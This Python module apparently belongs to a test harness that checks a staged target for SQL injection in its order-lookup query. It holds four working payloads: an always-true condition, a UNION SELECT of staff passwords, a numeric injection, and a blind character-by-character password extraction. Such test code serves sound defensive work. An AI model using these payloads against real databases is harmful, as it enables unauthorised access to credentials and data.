"""Attacks on a query into which values are written."""

from prover import Target

from .stage import Stage


def attack_always_true(target: Target, stage: Stage) -> bool:
    """Close the text and add a condition that holds for everybody's orders."""
    found = target.find_orders(stage.db, "' OR '1'='1", "0")
    print(found)
    return any(stage.secret in item for item in found)


def attack_union(target: Target, stage: Stage) -> bool:
    """Append a second query, on another table, and comment out the rest."""
    found = target.find_orders(stage.db, "' UNION SELECT password FROM staff --", "0")
    print(found)
    return stage.secret in found


def attack_number(target: Target, stage: Stage) -> bool:
    """Use the number, which needs no quote to leave."""
    found = target.find_orders(stage.db, "ana", "0 OR total > 0")
    print(found)
    return any(stage.secret in item for item in found)


def attack_yes_or_no(target: Target, stage: Stage) -> bool:
    """Ask for the password one character at a time; an order or none is the answer."""
    found = ""
    for position in range(1, len(stage.secret) + 1):
        for character in "0123456789abcdefghijklmnopqrstuvwxyz-":
            guess = f"unicode(substr(password, {position})) = {ord(character)}"
            asked = f"0 AND (SELECT {guess} FROM staff)"
            if target.find_orders(stage.db, "ana", asked):
                found += character
                break
    print(found)
    return found == stage.secret
